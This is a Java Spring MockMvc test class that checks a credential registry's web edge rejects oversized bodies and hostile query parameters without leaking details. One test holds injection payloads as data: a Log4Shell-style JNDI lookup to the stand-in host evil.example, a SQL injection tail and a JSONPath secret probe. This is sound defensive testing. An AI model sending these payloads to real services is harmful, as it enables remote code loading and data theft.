package io.credreg.query.web;

import io.credreg.query.console.LiveFeed;
import io.credreg.query.console.OpenStreams;

import io.credreg.query.admin.ProcessorAdministration;
import org.axonframework.queryhandling.QueryGateway;
import org.junit.jupiter.api.Test;
import io.credreg.query.audit.AuditLog;
import io.credreg.query.instance.InstanceSettings;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.webmvc.test.autoconfigure.WebMvcTest;
import org.springframework.http.MediaType;
import org.springframework.test.context.bean.override.mockito.MockitoBean;
import io.credreg.query.auditchain.AuditCheckpoints;
import org.springframework.test.web.servlet.MockMvc;
import org.springframework.test.web.servlet.MvcResult;

import static org.assertj.core.api.Assertions.assertThat;
import static org.mockito.Mockito.verifyNoInteractions;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.post;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.content;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.jsonPath;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;

/** The query side's edge: bodies beyond the limit are refused before anything reads them, and nothing leaks. */
@WebMvcTest
class HardenedEdgeWebTest {

    private static final String PROBLEMS = "https://credential-registry.dev/problems/";

    @Autowired
    MockMvc mvc;
    @MockitoBean
    QueryGateway queries;
    @MockitoBean
    ProcessorAdministration processors;
    @MockitoBean
    AuditLog auditLog;
    /** The console's event stream follows the event store, which this slice has not. */
    @MockitoBean
    LiveFeed liveFeed;
    @MockitoBean
    OpenStreams openStreams;
    /** The audit checkpoints controller is part of the slice; signing reads the database. */
    @MockitoBean
    AuditCheckpoints checkpoints;
    /** The instance controller reads its table directly, not through the query bus. */
    @MockitoBean
    InstanceSettings instanceSettings;

    @Test
    void aBodyOverTheLimitIsRefusedWith413() throws Exception {
        MvcResult result = mvc.perform(post("/api/admin/processors/credentials/replay")
                        .contentType(MediaType.APPLICATION_JSON).content("[".repeat(70 * 1024)))
                .andExpect(status().isContentTooLarge())
                .andExpect(content().contentTypeCompatibleWith(MediaType.APPLICATION_PROBLEM_JSON))
                .andExpect(jsonPath("$.type").value(PROBLEMS + "payload-too-large"))
                .andExpect(jsonPath("$.status").value(413))
                .andReturn();
        assertThat(result.getResponse().getContentAsString()).doesNotContain("[[[");
        // refused before the controller: no replay was started
        verifyNoInteractions(processors);

        mvc.perform(get("/api/credentials").contentType(MediaType.APPLICATION_JSON)
                        .content("{\"x\":\"" + "y".repeat(65 * 1024) + "\"}"))
                .andExpect(status().isContentTooLarge());
        verifyNoInteractions(queries);
    }

    @Test
    void aSmallBodyOnAnEndpointThatReadsNoneIsIgnored() throws Exception {
        mvc.perform(get("/api/credentials/not a valid id!").contentType(MediaType.APPLICATION_JSON).content("{}"))
                .andExpect(status().isBadRequest())
                .andExpect(content().contentTypeCompatibleWith(MediaType.APPLICATION_PROBLEM_JSON));
    }

    @Test
    void hostileQueryParametersAreRefusedWithoutEchoOrInternals() throws Exception {
        String injection = "${jndi:ldap://evil.example/a}' OR 1=1 --";
        MvcResult result = mvc.perform(get("/api/credentials").param("status", injection)
                        .param("provider", "$[?(@.secret)]"))
                .andExpect(status().isBadRequest())
                .andExpect(jsonPath("$.type").value(PROBLEMS + "invalid-request"))
                .andReturn();
        assertThat(result.getResponse().getContentAsString())
                .doesNotContain("jndi").doesNotContain("Exception").doesNotContain("springframework");
        verifyNoInteractions(queries);
    }
}
